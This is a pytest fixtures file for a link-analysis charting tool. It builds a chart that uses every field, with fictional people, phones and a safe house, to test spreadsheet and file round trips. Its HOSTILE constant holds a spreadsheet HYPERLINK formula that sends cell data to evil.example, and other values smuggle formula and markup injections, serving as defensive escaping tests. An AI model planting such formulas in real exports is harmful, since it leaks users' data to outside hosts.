"""Fixtures for io tests: the real data, spreadsheets written with openpyxl, and a chart that
uses every field."""

from __future__ import annotations

from datetime import datetime
from pathlib import Path

import pytest

from tests.conftest import DATA
from workbench.model import (
    Chart,
    Direction,
    EntityType,
    Kind,
    LinkType,
    SourceRecord,
    Strength,
    Style,
    Value,
)

REPO = Path(__file__).resolve().parents[2]
SPECS = REPO / "sample_charts" / "specs"


@pytest.fixture
def real_data() -> Path:
    if not DATA.is_dir():
        pytest.skip("../shared/data is not beside this checkout")
    return DATA


def write(path: Path, text: str, encoding: str = "utf-8") -> Path:
    path.write_bytes(text.encode(encoding))
    return path


HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"click") <b>&amp;</b> ?> "quoted"'


def build_rich_chart() -> Chart:
    """Every field a chart can carry, with hostile and non-Latin text, for round trips."""
    chart = Chart("Operation Lantern: Ромашка")
    chart.marking = "OFFICIAL-SENSITIVE"
    chart.author = "Analyst Zoë"
    chart.description = "Routes and payments <test> & more"
    chart.created = datetime(2026, 11, 1, 9, 30)
    chart.modified = datetime(2026, 11, 20, 17, 5)
    chart.add_types([EntityType("Safe house", icon="mdi6.home-lock", colour="#aa3300")],
                    [LinkType("Recruits", colour="#123456", directed=True)])
    court = SourceRecord("Court record", file="court.xlsx", sheet="Defendants", row=14,
                         reliability="A", credibility="1", handling="P",
                         imported_at=datetime(2026, 11, 2, 10, 0))
    hotline = SourceRecord("Hotline", file="calls.csv", row=3, reliability="E", credibility="4")
    anna = chart.make_entity(
        "Person", "Anna Kowalska", identity="Anna Kowalska",
        attributes={"age": Value(Kind.NUMBER, 27), "height": Value(Kind.NUMBER, 1.68),
                    "nationality": Value(Kind.TEXT, "Polish"),
                    "minor": Value(Kind.FLAG, False),
                    "first seen": Value(Kind.DATETIME, datetime(2016, 3, 4, 22, 15)),
                    "phone": Value(Kind.PHONE, "+447700900123"),
                    "email": Value(Kind.EMAIL, "anna@example.org"),
                    "profile": Value(Kind.URL, "http://example.org/a?b=1&c=2"),
                    "handle": Value(Kind.USERNAME, "anna_k"),
                    "last location": Value(Kind.COORDINATES, (52.2297, 21.0122)),
                    "type": Value(Kind.TEXT, "clashes with our column")},
        provenance=[court, hotline], x=-120.25, y=40.5, date=datetime(2016, 3, 4),
        coordinates=(52.2297, 21.0122))
    phone = chart.make_entity("Phone", "+44 7700 900123", identity="07700 900123",
                              provenance=[hotline], x=200.0, y=-80.75,
                              style=Style(colour="#ff00ff", size=2.0))
    house = chart.make_entity("Safe house", HOSTILE, provenance=[hotline], x=0.0, y=300.0,
                              style=Style(icon="mdi6.home-alert"))
    boss = chart.make_entity("Person", "-1+1 Ivanov", identity="Ivanov",
                             attributes={"note": Value(Kind.TEXT, "@SUM(1,2)\tand more")},
                             x=400.0, y=300.0)
    chart.make_link(anna.id, phone.id, "Uses", direction=Direction.FORWARD,
                    provenance=[hotline])
    chart.make_link(boss.id, anna.id, "Recruits", label="recruited in Lodz",
                    direction=Direction.REVERSE, strength=Strength.TENTATIVE,
                    date=datetime(2015, 11, 13, 21, 20),
                    attributes={"amount": Value(Kind.NUMBER, -2500.5)}, provenance=[court])
    chart.make_link(anna.id, house.id, "Lives at", direction=Direction.BOTH,
                    strength=Strength.UNCONFIRMED, style=Style(colour="#00aa00"))
    chart.make_link(boss.id, house.id, "Associate", label=HOSTILE)
    chart.make_link(boss.id, house.id, "Associate", label="second link, same ends")
    return chart


@pytest.fixture
def rich_chart() -> Chart:
    return build_rich_chart()
